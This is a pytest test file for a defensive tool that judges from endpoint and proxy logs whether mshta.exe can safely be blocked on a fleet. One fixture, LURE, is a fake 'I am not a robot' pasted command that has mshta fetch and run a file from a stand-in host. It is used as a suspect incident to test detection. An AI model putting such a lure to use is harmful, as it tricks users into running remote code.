"""The verdict of a pre-flight over logs that are written here: coverage first, use cases, decisions."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from datetime import UTC, date, datetime
from itertools import chain
from pathlib import Path

import pytest

from builders import SECURITY, SYSMON, connection, dns_query, event, explorer, process, process_start
from douse.errors import ContentError
from douse.harden.preflight.result import PreflightOptions, PreflightResult
from douse.harden.preflight.run import preflight
from douse.model import Event
from harden.preflight.fleet_logs import (
    CCM,
    DAY,
    HOSTS,
    MSHTA,
    day_of,
    days_of,
    form,
    hta,
    inventory,
    on,
    run,
    write,
)

TODAY = date(2026, 12, 20)
LURE = f'"{MSHTA}" https://verify.example/x.mp3 # I am not a robot: verification ID 7731'


def idle(hosts: tuple[str, ...] = HOSTS) -> list[Event]:
    """Thirty days of all hosts."""
    return list(chain.from_iterable(map(days_of, hosts)))


def signed(folder: Path, result: PreflightResult, **values: str) -> Path:
    """Decisions about the first use case, signed unless said otherwise."""
    fields = {"decision": "block", "owner": "Anna", "signed": "2026-12-18", "expires": "2027-03-01", "ticket": "CHG-1",
              "reason": "obsolete", **values}
    file = folder / "decisions.yml"
    file.write_text("decisions:\n" + f"  - use_case: {fields.pop('use_case', result.uses[0].id)}\n"
                    + "".join(f"    {name}: {value!r}\n" for name, value in fields.items()), encoding="utf-8")
    return file


def test_thirty_idle_days_of_all_hosts_are_a_go(tmp_path: Path) -> None:
    result = run(tmp_path, idle())
    assert result.verdict == "GO"
    assert [(host.host, host.owner, host.network_days, host.process_days, host.covered) for host in result.hosts] == [
        (name, f"Team {number}", 30, 30, True) for number, name in enumerate(HOSTS)]
    assert "not proven" in result.reason  # Sysmon may leave mshta out
    assert any("event 3" in one for one in result.blind)
    assert (result.since, result.until.date()) == (datetime(2026, 11, 18, tzinfo=UTC), date(2026, 12, 17))
    assert not any("month" in note for note in result.notes)
    assert any("quarter" in note for note in result.notes)


@pytest.mark.parametrize(("kinds", "why"), [
    (("process",), "event 3 is off by default"), (("network",), "no start of any program")])
def test_one_kind_of_telemetry_is_not_enough(tmp_path: Path, kinds: tuple[str, ...], why: str) -> None:
    result = run(tmp_path, idle(HOSTS[:2]) + days_of(HOSTS[2], kinds=kinds))
    assert result.verdict == "INSUFFICIENT"
    assert why in result.hosts[2].why
    assert "2 of 3" in result.reason
    assert run(tmp_path, idle(HOSTS[:2]) + days_of(HOSTS[2], kinds=kinds), need=66).verdict == "GO"


def test_a_host_without_any_record_and_one_that_nobody_listed(tmp_path: Path) -> None:
    inventory(tmp_path, [*HOSTS, "WS-99"])
    result = run(tmp_path, idle() + days_of("STRANGER"))
    assert result.verdict == "INSUFFICIENT"
    assert (result.hosts[-1].host, result.hosts[-1].why) == ("WS-99", "no record of this host was read")
    assert result.unlisted == ("STRANGER",)


@pytest.mark.parametrize(("days", "why"), [
    (range(5, 30), "its log begins on 2026-11-23"),
    (range(24), "for 6 days in a row"),
    ([0, *range(6, 30)], "for 5 days in a row"),
    (range(0, 30, 2), "15 of 30 days"),
])
def test_days_that_are_missing(tmp_path: Path, days: range, why: str) -> None:
    inventory(tmp_path)
    result = run(tmp_path, idle(HOSTS[:2]) + days_of(HOSTS[2], days))
    assert not result.hosts[2].covered
    assert why in result.hosts[2].why
    assert result.verdict == "INSUFFICIENT"


def test_an_office_computer_may_be_off_at_weekends_and_a_server_may_not(tmp_path: Path) -> None:
    weekdays = [day for day in range(30) if day % 7 not in (3, 4)]
    result = run(tmp_path, idle(HOSTS[:2]) + days_of(HOSTS[2], weekdays))
    assert result.verdict == "GO"
    assert result.hosts[2].why == "22 of 30 days; no record on 8, counted as switched off"
    inventory(tmp_path, role="file server")
    result = run(tmp_path, idle(HOSTS[:2]) + days_of(HOSTS[2], weekdays))
    assert result.verdict == "INSUFFICIENT"
    assert "always on" in result.hosts[2].why


def test_a_day_with_starts_and_without_connections_is_missing(tmp_path: Path) -> None:
    gap = [one for one in idle() if not (one.host == HOSTS[1] and one.event_id == 3 and one.time.day == 25)]
    result = run(tmp_path, gap)
    assert result.verdict == "INSUFFICIENT"
    assert result.hosts[1].why == "no connections were recorded on 2026-11-25, while other records were"


def test_a_pasted_command_is_an_incident(tmp_path: Path) -> None:
    ran = hta(10 * DAY, LURE)
    bad = [process_start(ran), dns_query(ran, 10 * DAY + 1, "verify.example", "::ffff:198.51.100.77;"),
           connection(ran, 10 * DAY + 2, "198.51.100.77")]
    result = run(tmp_path, idle() + on(HOSTS[0], bad))
    (use,) = result.uses
    assert (result.verdict, use.classed, use.basis) == ("NO-GO", "suspect", "connected")
    assert (use.destination, use.port, use.parent) == ("verify.example", 443, "explorer.exe")
    assert all(word in use.why for word in (".mp3", "pasted", "in the internet"))
    assert "hunt it" in use.open
    decisions = signed(tmp_path, result, decision="except", group="CORP\\X", sid="S-1-5-21-1-2-3-1604")
    refused = run(tmp_path, idle() + on(HOSTS[0], bad), decisions=decisions, today=TODAY)
    assert refused.verdict == "NO-GO"
    assert "never an exception" in refused.uses[0].open
    settled = run(tmp_path, idle() + on(HOSTS[0], bad), decisions=signed(tmp_path, result), today=TODAY)
    assert settled.verdict == "GO"


def test_security_alone_joins_connections_with_starts_by_pid_and_time(tmp_path: Path) -> None:
    """5156 counts pids in decimal and 4688 in hexadecimal; an earlier process with that pid is another one."""
    old = process("C:\\Windows\\System32\\mshta.exe", 10076, 9 * DAY, CCM, "mshta.exe old.hta")
    ran = process("C:\\Windows\\System32\\mshta.exe", 10076, 11 * DAY, CCM, "mshta.exe http://apps.corp.example/a.hta")
    idle_days = list(chain.from_iterable(days_of(host, shape="security") for host in HOSTS))
    used = [process_start(old, "security"), process_start(ran, "security"),
            connection(ran, 11 * DAY + 3, "203.0.113.7", shape="security")]
    result = run(tmp_path, idle_days + on(HOSTS[0], used))
    connected = next(use for use in result.uses if use.basis == "connected")
    assert (connected.command, connected.parent) == ("mshta.exe http://apps.corp.example/a.hta", "ccmexec.exe")
    assert (connected.destination, connected.classed) == ("203.0.113.7", "business candidate")
    assert any("4688" in record for record in connected.evidence)
    assert any("5156" in record for record in connected.evidence)
    started = next(use for use in result.uses if use.basis == "started")
    assert (started.command, started.open) == ("mshta.exe old.hta", "")


def test_inbound_connections_are_telemetry_and_no_use(tmp_path: Path) -> None:
    ran = hta(5 * DAY, "mshta.exe -Embedding")
    result = run(tmp_path, idle() + on(HOSTS[0], [process_start(ran), connection(
        ran, 5 * DAY + 1, "10.0.0.15", 55683, outbound=False)]))
    assert [(use.basis, use.open) for use in result.uses] == [("started", "")]
    assert result.verdict == "GO"


def test_a_start_blocks_where_no_connection_could_have_been_seen(tmp_path: Path) -> None:
    started = on(HOSTS[2], [process_start(hta(5 * DAY, f'"{MSHTA}" "C:\\Tools\\form.hta"'))])
    deaf = idle(HOSTS[:2]) + days_of(HOSTS[2], kinds=("process",))
    result = run(tmp_path, deaf + started, need=60)
    assert result.verdict == "INSUFFICIENT"
    assert "nobody can tell" in result.uses[0].open
    named = on(HOSTS[2], [process_start(hta(5 * DAY, f'"{MSHTA}" http://apps.vendor.example/form.hta', CCM))])
    result = run(tmp_path, deaf + named, need=60)
    assert (result.verdict, result.uses[0].destination) == ("NO-GO", "vendor.example")


def test_decisions_of_every_kind(tmp_path: Path) -> None:
    events = idle() + form(HOSTS[0], range(3, 20))
    result = run(tmp_path, events)
    (use,) = result.uses
    assert (use.classed, use.destination, use.open) == ("business candidate", "10.20.0.0/24", "no decision is signed")
    assert (result.verdict, use.days, use.times, use.users) == ("NO-GO", 17, 17, ("CORP\\ben",))
    group = {"decision": "except", "group": "CORP\\HTA users", "sid": "S-1-5-21-1-2-3-1604"}
    for values, verdict, words in (
        ({}, "GO", ""), ({"decision": "migrate"}, "GO", ""), (group, "GO WITH EXCEPTIONS", ""),
        ({"owner": ""}, "NO-GO", "owner is empty"), ({"ticket": "", "reason": ""}, "NO-GO", "ticket, reason are empty"),
        ({"signed": ""}, "NO-GO", "signed is empty"), ({"decision": ""}, "NO-GO", "no decision is signed"),
        ({"expires": "2026-12-19"}, "NO-GO", "expired on 2026-12-19"), ({"expires": "2026-12-20"}, "GO", ""),
        ({"signed": "2026-12-21"}, "NO-GO", "still to come"),
        ({"use_case": "U-other"}, "NO-GO", "no decision is signed"),
        ({**group, "sid": "S-1-1-0"}, "NO-GO", "no SID"), ({**group, "sid": "anna"}, "NO-GO", "no SID"),
        ({**group, "sid": ""}, "NO-GO", "sid is empty"), ({**group, "group": ""}, "NO-GO", "group is empty"),
        ({**group, "sid": "S-1-5-21-1-2-3-513"}, "NO-GO", "everybody"), ({**group, "group": "A;B"}, "NO-GO", "signs"),
    ):
        again = run(tmp_path, events, decisions=signed(tmp_path, result, **values), today=TODAY)
        assert (again.verdict, words in again.uses[0].open) == (verdict, True), (values, again.uses[0].open)
        assert bool(again.uses[0].open) == (verdict == "NO-GO")
        assert any("U-other" in note for note in again.notes) == ("use_case" in values)


@pytest.mark.parametrize("text", [
    "decisions: [", "decisions: 7", "decisions:\n  - decision: block",
    "decisions:\n  - use_case: U-1\n    decision: allow",
    "decisions:\n  - use_case: U-1\n    expires: soon", "decisions:\n  - use_case: U-1\n    until: 2027-01-01",
    "decisions:\n  - use_case: U-1\n  - use_case: U-1", "program: wscript.exe\ndecisions: []",
    "decisions:\n  - use_case: U-1\n    signed: 2027-02-31", "decisions: &a [*a]", "",
])
def test_decisions_that_break_the_format(tmp_path: Path, text: str) -> None:
    file = tmp_path / "decisions.yml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(ContentError, match=r"decisions\.yml"):
        run(tmp_path, idle(), decisions=file)


def test_a_renamed_copy_is_suspect(tmp_path: Path) -> None:
    copy = process("C:\\Users\\anna\\AppData\\Local\\Temp\\update.exe", 77, 4 * DAY, explorer(), "update.exe a.hta")
    started = process_start(copy)
    started.fields["OriginalFileName"] = "MSHTA.EXE.MUI"
    (use,) = run(tmp_path, idle() + on(HOSTS[0], [started])).uses
    assert (use.classed, use.basis) == ("suspect", "started")
    assert "another name, update.exe" in use.why
    assert use.open


def test_indicators_make_a_use_suspect(tmp_path: Path) -> None:
    lists = tmp_path / "ioc.txt"
    lists.write_text("203.0.113.7\n", encoding="utf-8")
    ran = hta(3 * DAY, f'"{MSHTA}" "C:\\Tools\\form.hta"', CCM)
    events = idle() + on(HOSTS[0], [process_start(ran), connection(ran, 3 * DAY + 1, "203.0.113.7")])
    assert run(tmp_path, events).uses[0].classed == "business candidate"
    (use,) = run(tmp_path, events, ioc=(lists,)).uses
    assert use.classed == "suspect"
    assert "indicator 203.0.113.7" in use.why


def proxy(folder: Path, seconds: int, agent: str, url: str = "http://apps.vendor.example/form.hta",
          client: str = "10.0.0.15") -> Path:
    """A proxy's log with one request, in the combined format."""
    time = event(SYSMON, 1, seconds, {}).time
    file = folder / "proxy.log"
    file.write_text(f'{client} - - [{time:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" 200 512 "-" "{agent}"\n',
                    encoding="utf-8")
    return file


TRIDENT = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0)"


@pytest.mark.parametrize(("late", "agent", "basis"), [
    (4, TRIDENT, "possible"), (6, TRIDENT, "started"), (4, "Mozilla/5.0 Firefox/150.0", "started")])
def test_a_proxy_alone_makes_a_use_possible(tmp_path: Path, late: int, agent: str, basis: str) -> None:
    ran = hta(6 * DAY, f'"{MSHTA}" "C:\\Tools\\form.hta"', CCM)
    log = write(tmp_path / "endpoints.jsonl", idle(HOSTS[:1]) + on(HOSTS[0], [process_start(ran)]))
    web = proxy(tmp_path, 6 * DAY + late, agent)
    result = preflight(PreflightOptions("mshta", (str(log), str(web)), inventory(tmp_path, HOSTS[:1])))
    (use,) = result.uses
    assert use.basis == basis
    assert (use.destination == "vendor.example") == (basis == "possible")
    assert (result.verdict == "NO-GO") == (basis == "possible")


def test_a_connection_to_a_proxy_goes_where_the_proxy_says(tmp_path: Path) -> None:
    ran = hta(6 * DAY, f'"{MSHTA}" "C:\\Tools\\form.hta"', CCM)
    used = [process_start(ran), connection(ran, 6 * DAY + 2, "10.20.0.3", 8080)]
    log = write(tmp_path / "endpoints.jsonl", idle(HOSTS[:1]) + on(HOSTS[0], used))
    options = PreflightOptions("mshta", (str(log), str(proxy(tmp_path, 6 * DAY + 3, TRIDENT))),
                               inventory(tmp_path, HOSTS[:1]))
    (use,) = preflight(options).uses
    assert (use.basis, use.destination) == ("connected", "vendor.example")
    (use,) = preflight(replace(options, logs=(str(log),))).uses
    assert (use.destination, use.classed) == ("proxy 10.20.0.3", "business candidate")  # ConfigMgr started it
    assert "unknown" in use.why


def test_policies_and_changes_are_told(tmp_path: Path) -> None:
    guard = "Microsoft-Windows-CodeIntegrity/Operational"
    locker = "Microsoft-Windows-AppLocker/EXE and DLL"
    told = [event(guard, 3077, 2 * DAY, {"FileName": "C:\\x.dll", "SISigningScenario": "1"}),
            event(SECURITY, 1102, 3 * DAY, {"SubjectUserName": "x"}),
            event(SYSMON, 16, 3 * DAY, {"Configuration": "new.xml"}), event(SYSMON, 255, 3 * DAY, {"ID": "x"}),
            event(locker, 8003, 4 * DAY, {"FilePath": "%SYSTEM32%\\MSHTA.EXE", "TargetUser": "S-1-5-21-1-2-3-1104",
                                         "Fqbn": "O=MICROSOFT\\INTERNET EXPLORER\\MSHTA.EXE\\11.0.1.1"})]
    result = run(tmp_path, idle() + on(HOSTS[0], told))
    notes = "\n".join(result.notes)
    assert "HTA applications are dead already" in notes
    assert "configuration changed 1 time(s)" in notes
    assert "1 error(s)" in notes
    assert f"{HOSTS[0]}: a log was cleared, last on 2026-11-21 (Security 1102)" in notes
    (use,) = result.uses
    assert (use.basis, use.users, use.unseen) == ("started", ("S-1-5-21-1-2-3-1104",), True)
    assert "would be blocked" in use.why
    script = event("Microsoft-Windows-AppLocker/MSI and Script", 8029, 4 * DAY, {"FilePath": "C:\\x.ps1"})
    assert "App Control enforces scripts on WS-02" in "\n".join(run(tmp_path, idle() + on(HOSTS[1], [script])).notes)


def test_other_programs_are_looked_at_by_their_own_name(tmp_path: Path) -> None:
    script = process("C:\\Windows\\System32\\wscript.exe", 60, 4 * DAY, explorer(), 'wscript.exe "C:\\Tools\\a.vbs"')
    used = on(HOSTS[0], [process_start(script), connection(script, 4 * DAY + 1, "203.0.113.9")])
    assert run(tmp_path, idle() + used).uses == ()
    result = run(tmp_path, idle() + used, program="WSCRIPT.exe")
    assert (result.program, result.verdict, result.uses[0].classed) == ("wscript.exe", "NO-GO", "suspect")
    with pytest.raises(ContentError):
        run(tmp_path, idle(), program="../mshta")


def test_lost_evidence_and_empty_inventories_never_pass(tmp_path: Path) -> None:
    log = write(tmp_path / "log.jsonl", idle())
    log.write_text(log.read_text() + '{"Event": {"System": {"EventID": 1, "Chan\n')
    result = preflight(PreflightOptions("mshta", (str(log),), inventory(tmp_path)))
    assert result.verdict == "INSUFFICIENT"
    assert "could not be read" in result.reason
    assert result.problems
    assert run(tmp_path, idle(), inventory=inventory(tmp_path, [])).verdict == "INSUFFICIENT"
    nothing = preflight(PreflightOptions("mshta", (str(tmp_path / "nowhere"),), inventory(tmp_path)))
    assert nothing.verdict == "INSUFFICIENT"


def test_the_order_of_records_and_copies_of_them_change_nothing(tmp_path: Path) -> None:
    events = idle() + form(HOSTS[0], range(3, 9)) + form(HOSTS[1], range(4, 7), shape="security")
    ran = hta(10 * DAY, LURE)
    events += on(HOSTS[2], [process_start(ran), process_start(ran, "security", 0.1),
                            connection(ran, 10 * DAY + 2, "198.51.100.77"),
                            dns_query(ran, 10 * DAY + 1, "verify.example", "198.51.100.77;"),
                            connection(ran, 10 * DAY + 2.2, "198.51.100.77", shape="security")])
    first = run(tmp_path, events)
    assert len(first.uses) == 2
    assert next(use for use in first.uses if use.classed == "suspect").times == 1  # four records of one run
    for seed in range(3):
        mixed = [*events, *events[::7]]
        random.Random(seed).shuffle(mixed)
        again = run(tmp_path, mixed)
        assert replace(again, started=first.started, finished=first.finished, records=first.records) == first


def test_until_ends_the_window(tmp_path: Path) -> None:
    end = datetime(2026, 12, 8, tzinfo=UTC)
    events = idle() + form(HOSTS[0], [25])
    result = run(tmp_path, idle(), days=20, until=end)
    assert (result.verdict, result.since, result.until) == ("GO", datetime(2026, 11, 18, tzinfo=UTC), end)
    later = run(tmp_path, events, days=20, until=end)  # a user cannot choose the days so that a use falls out
    assert (later.verdict, later.since) == ("NO-GO", result.since)
    assert any("after the window" in note for note in later.notes)


def test_names_of_hosts_are_those_of_the_inventory(tmp_path: Path) -> None:
    inventory(tmp_path, ["ws-01", *HOSTS[1:]])
    mixed = days_of("WS-01.corp.example", range(15)) + days_of("ws-01", range(15, 30))
    result = run(tmp_path, idle(HOSTS[1:]) + mixed)
    assert (result.verdict, result.unlisted) == ("GO", ())
    assert [host.host for host in result.hosts] == ["ws-01", *HOSTS[1:]]


def test_what_cannot_be_kept_is_no_coverage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from douse.harden.preflight import watch

    monkeypatch.setitem(watch.LIMITS, "starts", 4)
    runs = [process_start(hta(day * DAY + 60, "mshta.exe a.hta", CCM)) for day in range(12)]
    result = run(tmp_path, idle() + on(HOSTS[0], runs))
    assert result.verdict == "INSUFFICIENT"
    assert "not complete" in result.hosts[0].why


def test_security_channel_names_compare_without_case(tmp_path: Path) -> None:
    events = list(chain.from_iterable(day_of(host, day, "security") for host in HOSTS for day in range(30)))
    for one in events:
        one.channel = SECURITY.upper()
    assert run(tmp_path, events).verdict == "GO"


def test_a_computer_that_is_listed_by_address_alone(tmp_path: Path) -> None:
    hosts = tmp_path / "hosts.csv"
    hosts.write_text("host,ip,role,owner,criticality\n,10.0.0.15,,Team X,\n", encoding="utf-8")
    result = run(tmp_path, idle(HOSTS[:1]))
    assert (result.verdict, result.unlisted, result.hosts[0].host) == ("GO", (), "10.0.0.15")


@pytest.mark.parametrize(("address", "protocol", "basis"), [
    ("127.0.0.1", "tcp", "connected"), ("::1", "tcp", "connected"), ("127.0.0.1", "udp", "started"),
    (".".join("0000"), "tcp", "started"), ("::", "tcp", "started")])
def test_a_connection_to_the_host_itself_may_be_one_to_a_proxy(
    tmp_path: Path, address: str, protocol: str, basis: str,
) -> None:
    """Agents of cloud proxies listen there; UDP to itself is what Internet Explorer's library does anyway."""
    ran = hta(5 * DAY, "mshta.exe a.hta", CCM)
    used = connection(ran, 5 * DAY + 1, address, 9000, hostname="WS-01")
    used.fields["Protocol"] = protocol
    (use,) = run(tmp_path, idle() + on(HOSTS[0], [process_start(ran), used])).uses
    assert (use.basis, use.destination) == (basis, "this computer" if basis == "connected" else "")
    assert ("destination is unknown" in use.why) == bool(use.open) == (basis == "connected")


def test_refused_connections_are_uses_too(tmp_path: Path) -> None:
    ran = hta(5 * DAY, "mshta.exe a.hta", CCM)
    tried = connection(ran, 5 * DAY + 1, "203.0.113.9", shape="security")
    tried.event_id = 5157
    (use,) = run(tmp_path, idle() + on(HOSTS[0], [process_start(ran), tried])).uses
    assert (use.basis, use.destination) == ("connected", "203.0.113.9")
    assert "refused by a filter already" in use.why
    only_refused = [one for one in idle() if one.event_id != 3]
    assert run(tmp_path, [*only_refused, *on(HOSTS[0], [tried])]).hosts[0].network_days == 0


def test_rows_of_defender_tell_parent_and_command_with_the_connection(tmp_path: Path) -> None:
    day = event(SYSMON, 1, 4 * DAY, {}).time.isoformat()
    rows = [
        {"Timestamp": day, "DeviceName": "ws-01", "ActionType": action, "RemoteIP": "203.0.113.9", "RemotePort": 443,
         "RemoteUrl": "cdn.vendor.example", "LocalIP": "10.0.0.15", "LocalPort": 50122, "Protocol": "Tcp",
         "InitiatingProcessFileName": name, "InitiatingProcessFolderPath": f"c:\\x\\{name}",
         "InitiatingProcessId": 71, "InitiatingProcessCommandLine": "mshta.exe C:\\Tools\\a.hta",
         "InitiatingProcessParentFileName": "CcmExec.exe", "InitiatingProcessAccountDomain": "corp", "ReportId": number,
         "InitiatingProcessAccountName": "ben", "InitiatingProcessVersionInfoOriginalFileName": "MSHTA.EXE"}
        for number, (action, name) in enumerate((
            ("ConnectionSuccess", "mshta.exe"), ("ConnectionFailed", "mshta.exe"),
            ("InboundConnectionAccepted", "mshta.exe"), ("ListeningConnectionCreated", "mshta.exe"),
            ("ConnectionSuccess", "copy.exe")), start=7)]
    log = tmp_path / "network.json"
    log.write_text(json.dumps(rows), encoding="utf-8")
    result = preflight(PreflightOptions("mshta", (str(log),), inventory(tmp_path, ["WS-01"]), days=1))
    assert result.hosts[0].network == ("Defender DeviceNetworkEvents",)
    assert {(use.destination, use.parent, use.users, use.basis) for use in result.uses} == {
        ("vendor.example", "ccmexec.exe", ("corp\\ben",), "connected")}
    assert {use.classed for use in result.uses} == {"suspect"}  # a copy under another name is among them
    assert "copy.exe" in result.uses[0].why


@pytest.mark.parametrize("year", [1, 1601, 9999])
def test_times_at_the_ends_of_the_calendar_stop_nothing(tmp_path: Path, year: int) -> None:
    ran = hta(0, LURE)
    events = on(HOSTS[0], [process_start(ran), process_start(ran, "security"), connection(ran, 0, "198.51.100.77"),
                           connection(ran, 0, "10.0.0.3", 8080, shape="security"),
                           dns_query(ran, 0, "a.example", "1.1.1.1"),
                           event("Microsoft-Windows-AppLocker/EXE and DLL", 8004, 0, {"FilePath": MSHTA})])
    for one in events:
        one.time = one.time.replace(year=year, month=12 if year == 9999 else 1, day=31 if year == 9999 else 1)
    result = run(tmp_path, events + idle())
    assert result.verdict == "NO-GO"
    assert sum(use.classed == "suspect" for use in result.uses) >= 1


def test_a_use_from_before_the_window_counts_and_says_so(tmp_path: Path) -> None:
    result = run(tmp_path, idle() + form(HOSTS[0], [2]), days=10)
    assert result.verdict == "NO-GO"
    assert any("before the window" in note for note in result.notes)


def test_a_reverse_name_is_shown_and_never_believed(tmp_path: Path) -> None:
    """Whoever owns an address chooses what a reverse look-up of it says."""
    used = []
    for day, address in ((3, "203.0.113.7"), (4, "198.51.100.66")):
        ran = hta(day * DAY, "mshta.exe a.hta", CCM)
        used += [process_start(ran), connection(ran, day * DAY + 1, address, hostname="www.vendor.example")]
    result = run(tmp_path, idle() + on(HOSTS[0], used))
    assert {use.destination for use in result.uses} == {"203.0.113.7", "198.51.100.66"}
    assert all("www.vendor.example (by a reverse look-up)" in use.why for use in result.uses)


@pytest.mark.parametrize(("parent", "classed"), [
    ("C:\\Windows\\explorer.exe", "business candidate"), ("C:\\x\\chrome.exe", "unknown"),
    ("C:\\x\\winword.exe", "unknown"), ("C:\\x\\powershell.exe", "unknown"),
    ("C:\\Windows\\CCM\\CcmExec.exe", "business candidate")])
def test_who_starts_it_matters_inside_too(tmp_path: Path, parent: str, classed: str) -> None:
    ran = hta(5 * DAY, "mshta.exe a.hta", process(parent, 44))
    used = on(HOSTS[0], [process_start(ran), connection(ran, 5 * DAY + 1, "10.20.0.80")])
    assert [use.classed for use in run(tmp_path, idle() + used).uses] == [classed]


def test_an_older_record_of_another_kind_is_no_beginning(tmp_path: Path) -> None:
    later = days_of(HOSTS[2], range(3, 30))
    old = on(HOSTS[2], [event(SYSMON, 16, -9 * DAY, {"Configuration": "x"})])
    result = run(tmp_path, idle(HOSTS[:2]) + later + old)
    assert result.hosts[2].why == "its log begins on 2026-11-21, and the window on 2026-11-18"
    assert run(tmp_path, idle(HOSTS[:2]) + later + days_of(HOSTS[2], [-1])).verdict == "GO"
